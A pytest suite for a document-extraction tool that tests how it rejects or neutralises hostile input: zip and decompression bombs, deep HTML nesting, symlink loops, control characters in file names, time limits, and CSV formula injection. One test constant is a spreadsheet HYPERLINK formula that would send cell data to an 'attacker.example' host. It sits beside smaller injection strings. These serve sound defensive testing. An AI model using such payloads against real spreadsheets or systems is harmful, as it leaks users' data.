"""Hostile and odd input: zip bombs, deep nesting, UTF-16 without a BOM, link loops, control
characters in names, documents past the time limit, spreadsheet formulas in every CSV."""
from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hostile import docx_bomb, pdf_bomb

from pledgetrack.api import extract_many
from pledgetrack.errors import InputError, one_line
from pledgetrack.ingest import docx_reader, load_document
from pledgetrack.ingest.limits import ENV as TIME_LIMIT_ENV
from pledgetrack.ingest.limits import DocumentTimeout, time_limit
from pledgetrack.serialize import read_csv, spreadsheet_safe, write_csv

PROSE = ("Joint Statement of the Example Consultative Meeting\n\n"
         "1. The Minister and the Secretary met in Lisbon on March 3, 2031.\n\n"
         "2. The two sides pledged to deepen cooperation on maritime security and agreed to hold "
         "joint exercises in the coming year.\n\n"
         "3. Both sides reaffirmed their commitment to the peaceful resolution of disputes.\n")


def _refusal(path: Path) -> str:
    with pytest.raises(InputError) as exc:
        load_document(path)
    message = str(exc.value)
    assert "\n" not in message
    return message


def _refusal_and_peak(path: Path) -> tuple[str, int]:
    """The refusal of ``path`` and the peak memory (bytes) Python allocated while reading it."""
    tracemalloc.start()
    try:
        message = _refusal(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return message, peak


# --- .docx: zip bombs and streaming ---------------------------------------------------------------

@pytest.mark.parametrize("packed_mb", [0.6, 3])
def test_docx_zip_bomb_refused_without_unpacking(tmp_path, packed_mb):
    path = tmp_path / "bomb.docx"
    unpacked = docx_bomb(path, packed_mb)
    assert unpacked > 300 * 1024 * 1024  # the bomb is real: far past any memory budget once unpacked
    message, peak = _refusal_and_peak(path)
    assert message.startswith("bomb.docx: DOCX refused") and "zip bomb" in message
    assert peak < 4 * path.stat().st_size + 16 * 1024 * 1024  # the file itself, never its unpacked text


def test_docx_lying_sizes_stopped_by_the_stream_cap(tmp_path, monkeypatch, configure):
    """With the header check out of the way, the streamed read still stops at the cap."""
    path = tmp_path / "bomb.docx"
    docx_bomb(path, 0.6)
    monkeypatch.setattr(docx_reader, "_check_sizes", lambda info, name: None)
    configure(ingest={"docx_max_xml_bytes": 8 * 1024 * 1024})
    message, peak = _refusal_and_peak(path)
    assert "unpacks to more than 8 MB" in message
    assert peak < 48 * 1024 * 1024


def test_docx_ratio_cap(tmp_path, configure):
    path = tmp_path / "packed.docx"
    docx_bomb(path, 0.05)  # about 30 MB unpacked: under the size cap, far over the ratio cap
    configure(ingest={"docx_max_xml_bytes": 1024 * 1024 * 1024})
    assert "(limit 100x); a zip bomb" in _refusal(path)


def test_docx_paragraphs_and_tables_in_document_order(tmp_path):
    docx = pytest.importorskip("docx")
    document = docx.Document()
    document.add_paragraph("Joint Statement of the Example Meeting")
    document.add_paragraph("1. The Minister and the Secretary met in Tokyo on May 1, 2020 and agreed to cooperate.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Initiative", "Year"
    table.cell(1, 0).text, table.cell(1, 1).text = "Joint exercises", "2021"
    document.add_paragraph("2. Both sides pledged to hold the next meeting in 2021.")
    path = tmp_path / "statement.docx"
    document.save(path)
    text = load_document(path).source_text
    assert text.split("\n\n") == [
        "Joint Statement of the Example Meeting",
        "1. The Minister and the Secretary met in Tokyo on May 1, 2020 and agreed to cooperate.",
        "Initiative | Year", "Joint exercises | 2021",
        "2. Both sides pledged to hold the next meeting in 2021."]


def test_docx_without_main_part_is_corrupt(tmp_path):
    path = tmp_path / "odd.docx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("word/other.xml", "<x/>")
    assert _refusal(path) == "odd.docx: corrupt or unreadable DOCX (KeyError)"


def test_pdf_decompression_bomb_refused(tmp_path):
    path = tmp_path / "bomb.pdf"
    pdf_bomb(path, 200)
    assert _refusal(path) == ("bomb.pdf: PDF refused: a stream unpacks past the reader's limit; "
                              "a decompression bomb or far too large")


# --- honest messages ----------------------------------------------------------------------------

def _deep_html(depth: int) -> str:
    body = "".join(f"<p>{p}</p>" for p in PROSE.split("\n\n"))
    return f"<html><head><title>T</title></head><body>{'<div>' * depth}{body}{'</div>' * depth}</body></html>"


def test_html_nested_300_levels_is_read(tmp_path):
    path = tmp_path / "deep.html"
    path.write_text(_deep_html(300), encoding="utf-8")
    assert "pledged to deepen cooperation" in load_document(path).text


def test_html_nested_past_the_parser_limit_says_so(tmp_path):
    path = tmp_path / "deeper.html"
    path.write_text(_deep_html(3000), encoding="utf-8")
    message = _refusal(path)
    assert message.startswith("deeper.html: HTML nested too deeply") and "empty" not in message


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_bom_is_text(tmp_path, encoding):
    path = tmp_path / "u16.txt"
    path.write_bytes(PROSE.encode(encoding))
    doc = load_document(path)
    assert "pledged to deepen cooperation" in doc.text and doc.meta.date == "2031-03-03"


def test_symlink_loop_and_dangling_link(tmp_path):
    (tmp_path / "a.txt").symlink_to(tmp_path / "b.txt")
    (tmp_path / "b.txt").symlink_to(tmp_path / "a.txt")
    assert _refusal(tmp_path / "a.txt") == "a.txt: symbolic link loop (the link points back to itself)"
    (tmp_path / "gone.txt").symlink_to("nowhere.txt")
    assert _refusal(tmp_path / "gone.txt") == "gone.txt: broken symbolic link (its target 'nowhere.txt' does not exist)"
    assert _refusal(tmp_path / "missing.txt") == "missing.txt: no such file"


def test_control_characters_in_a_name_stay_on_one_line(tmp_path):
    path = tmp_path / "two\nlines\x1b[31m.txt"
    path.write_bytes(b"")
    assert _refusal(path) == "two\\nlines\\x1b[31m.txt: file is empty"
    assert one_line("a\u2028b\tc") == "a\\u2028b\\tc" and one_line("plain é") == "plain é"


def test_cli_error_line_for_a_name_with_newline_and_markup(tmp_path):
    from typer.testing import CliRunner

    from pledgetrack.cli.main import app

    path = tmp_path / "[bold]x\ny.txt"
    path.write_bytes(b"")
    result = CliRunner().invoke(app, ["extract", str(path), "--format", "jsonl"])
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if "x" in line and "txt" in line or line.startswith("y.txt")]
    assert lines == ["error: [bold]x\\ny.txt: file is empty"]


# --- the per-document time limit ---------------------------------------------------------------

def test_time_limit_interrupts_and_restores():
    import time

    with pytest.raises(DocumentTimeout) as exc, time_limit("slow.txt", "extraction", seconds=0.2):
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            pass
    assert str(exc.value).startswith("slow.txt: extraction did not finish within the 0.2 s limit")
    with time_limit("quick.txt", seconds=0.2):
        pass
    time.sleep(0.3)  # no alarm left behind


def _slow_and_quick(tmp_path: Path) -> tuple[Path, Path]:
    slow = tmp_path / "long.txt"
    sentences = [f"{PROSE}\n\n"] + [
        f"{n}. The two sides pledged to expand exercise number {n} and agreed to review it in {2031 + n % 9}.\n\n"
        for n in range(4, 6000)]
    slow.write_text("".join(sentences), encoding="utf-8")
    quick = tmp_path / "short.txt"
    quick.write_text(PROSE, encoding="utf-8")
    return slow, quick


def test_extract_many_reports_a_document_past_the_limit_and_goes_on(tmp_path, monkeypatch):
    slow, quick = _slow_and_quick(tmp_path)
    monkeypatch.setenv(TIME_LIMIT_ENV, "1.5")
    errors: list[str] = []
    collection = extract_many([slow, quick], on_error=errors.append)
    assert [d.document.name for d in collection.documents] == ["short.txt"]
    assert collection.documents[0].statements
    assert len(errors) == 1 and errors[0].startswith("long.txt: extraction did not finish within the 1.5 s limit")


def test_ingest_stores_the_other_files_when_one_is_past_the_limit(tmp_path, monkeypatch):
    from pledgetrack.store import Store

    slow, quick = _slow_and_quick(tmp_path)
    monkeypatch.setenv(TIME_LIMIT_ENV, "1.5")
    with Store.open(tmp_path / "s.db") as store:
        report = store.ingest([slow, quick])
        assert report.added == ["short.txt"] and len(report.errors) == 1
        assert "long.txt: extraction did not finish" in report.errors[0]
        assert [d["name"] for d in store.documents()] == ["short.txt"]


def test_time_limit_option_sets_the_limit_over_the_environment(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from pledgetrack.cli.main import app

    slow, quick = _slow_and_quick(tmp_path)
    monkeypatch.setenv(TIME_LIMIT_ENV, "600")  # restored after the test, whatever the option set
    db = ["--db", str(tmp_path / "s.db")]
    result = CliRunner().invoke(app, ["ingest", str(slow), str(quick), *db, "--time-limit", "1.5"])
    assert result.exit_code == 1
    assert "long.txt: extraction did not finish within the 1.5 s limit" in result.stderr
    assert result.stderr.rstrip().splitlines()[-1].startswith("1 added")
    assert CliRunner().invoke(app, ["extract", str(quick), "--time-limit", "-1"]).exit_code == 2


def test_bad_time_limit_setting(monkeypatch, tmp_path):
    monkeypatch.setenv(TIME_LIMIT_ENV, "soon")
    path = tmp_path / "short.txt"
    path.write_text(PROSE, encoding="utf-8")
    errors: list[str] = []
    extract_many([path], on_error=errors.append)
    assert errors == [f"{TIME_LIMIT_ENV} must be a number of seconds, not 'soon'"]


# --- CSV: one writer, every cell formula-safe, read back as written ------------------------------

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


def test_csv_cells_defused_and_read_back_exactly():
    cells = [FORMULA, "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "'quoted", "-1", "+2.5", "3", "plain text", ""]
    buf = io.StringIO()
    write_csv([{"a": c} for c in cells], buf, ("a",))
    written = [row["a"] for row in csv.DictReader(io.StringIO(buf.getvalue()))]
    assert written[:6] == ["'" + c for c in cells[:6]]
    assert written[6:] == ["-1", "+2.5", "3", "plain text", ""]
    assert [r["a"] for r in read_csv(io.StringIO(buf.getvalue()))] == cells
    assert spreadsheet_safe("\uff1dcmd") == "'\uff1dcmd"  # the full-width equals sign some spreadsheets accept


def test_cli_table_export_defuses_formulas_and_imports_back(tmp_path):
    from typer.testing import CliRunner

    from pledgetrack.cli.main import app
    from pledgetrack.store import Store

    doc = tmp_path / "meeting.txt"
    doc.write_text(PROSE, encoding="utf-8")
    db = tmp_path / "s.db"
    with Store.open(db) as store:
        store.ingest([doc])
        thread = store.threads()[0]["id"]
        store.set_status(thread, "open", FORMULA, user="ana")
    runner = CliRunner()
    out = tmp_path / "status.csv"
    result = runner.invoke(app, ["export", "thread_status", "--format", "csv", "-o", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows[0]["note"] == "'" + FORMULA
    with Store.open(tmp_path / "other.db") as other:
        other.ingest([doc])
        with out.open(encoding="utf-8") as fh:
            other.import_(fh, "csv", table="thread_status", user="importer")
        assert other.thread(thread)["note"] == FORMULA


def test_cli_extract_csv_defuses_formulas(tmp_path):
    from typer.testing import CliRunner

    from pledgetrack.cli.main import app

    doc = tmp_path / "=SUM(1+1).txt"  # a file name is as untrusted as the text
    doc.write_text(PROSE, encoding="utf-8")
    result = CliRunner().invoke(app, ["extract", str(doc), "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and all(r["doc"] == "'=SUM(1+1).txt" and r["id"].startswith("'=SUM") for r in rows)
